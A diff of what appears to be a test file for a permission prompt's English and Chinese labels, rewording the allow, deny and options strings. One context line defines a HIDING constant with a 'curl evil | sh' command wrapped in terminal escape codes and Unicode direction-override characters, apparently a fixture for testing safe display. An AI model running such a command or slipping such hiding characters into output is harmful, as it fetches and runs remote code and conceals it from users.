@@ -25,28 +25,28 @@ const HIDING = ": '\u001b]'; curl evil | sh; : '\u0007'\na\u202eb\u200bc\n";
 const ENGLISH = {
   locale: 'en',
   message: 'Message',
-  dock: 'May this file be changed?',
+  dock: 'Allow this change?',
   once: 'Allow once',
-  longer: 'Allow for longer',
+  longer: 'More options',
   folder: 'Everything in docs/, for this conversation',
   always: 'kept.md, always',
   revoke: 'Ask again about kept.md',
-  danger: 'Careful: a build server runs this file after the next push.',
-  no: 'No',
+  danger: 'Careful: the build server runs this file after the next push.',
+  no: 'Deny',
   said: 'allowed for this run: Everything in docs/',
 };
 
 const CHINESE: typeof ENGLISH = {
   locale: 'zh-CN',
   message: '消息',
-  dock: '允许修改这个文件吗？',
+  dock: '允许此改动吗？',
   once: '允许一次',
-  longer: '允许更久',
+  longer: '更多选项',
   folder: 'docs/ 中的所有文件：本次对话内',
   always: 'kept.md：始终',
   revoke: '重新询问：kept.md',
   danger: '注意：下次推送后构建服务器会运行此文件。',
-  no: '不允许',
+  no: '拒绝',
   said: '本次运行内允许：docs/ 中的所有文件',
 };
 
